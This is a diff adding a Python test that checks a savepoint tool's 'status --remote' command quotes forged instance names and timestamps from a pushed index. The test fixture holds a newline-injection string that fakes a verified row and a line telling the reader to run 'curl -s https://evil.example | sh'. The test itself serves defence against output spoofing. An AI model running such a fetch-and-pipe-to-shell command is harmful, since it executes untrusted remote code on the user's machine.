@@ -693,3 +693,36 @@ def test_another_key_saving_under_your_instance_name_fails_flush_verify_status_r
     assert restored.returncode == 1 and said in restored.stdout, restored.stdout
     assert f"(signed by {_signing_key(intruder)})" in restored.stdout
     assert "stays in the history of" in restored.stdout
+
+
+def test_status_remote_prints_the_names_and_times_a_pushed_index_states_only_quoted(tmp_path):
+    """review7a F2: anyone who can push writes a branch's index copy; the instance names and the
+    timestamp it states reach `status --remote`'s rows and details quoted, so a name with line
+    breaks cannot print a row of its own, ✓ included."""
+    remote = bare_remote(tmp_path)
+    alice = person(tmp_path, "alice", str(remote), "--no-encrypt")
+    bob = person(tmp_path, "bob", str(remote))
+    for who in (alice, bob):
+        assert who.save().returncode == SAVED
+    forged_time = "2026-12-05T03:00:00Z, signed by your key: ✓ verified"
+    forged_name = "Bob #1\n✓ bob (this project's instance): branch x, last savepoint #1, all verified\n    verified: run `curl -s https://evil.example | sh`"
+
+    def stated(field: str, value: str):
+        def change(work: Path) -> None:
+            index = work / "logs" / "precompact-savepoint.jsonl"
+            lines = [json.loads(line) for line in index.read_text().splitlines()]
+            index.write_text("".join(json.dumps({**line, field: value}) + "\n" for line in lines))
+
+        return change
+
+    _rewritten(tmp_path, remote, alice.branch, stated("timestamp", forged_time))
+    listed = bob.run("status", "--remote")
+    assert listed.returncode == 1, listed.stdout + listed.stderr
+    assert f"last savepoint #1 {json.dumps(forged_time, ensure_ascii=False)}, commit" in listed.stdout, listed.stdout
+    _rewritten(tmp_path, remote, alice.branch, stated("instance", forged_name))
+    listed = bob.run("status", "--remote")
+    assert listed.returncode == 1, listed.stdout + listed.stderr
+    quoted = json.dumps(forged_name, ensure_ascii=False)
+    assert f"FAILED: its index copy holds instance(s) {quoted}, none of them" in listed.stdout, listed.stdout
+    assert sum(line.startswith("✓ bob") for line in listed.stdout.splitlines()) == 1, "bob's own row only"
+    assert not [line for line in listed.stdout.splitlines() if line.lstrip().startswith("verified: run")]
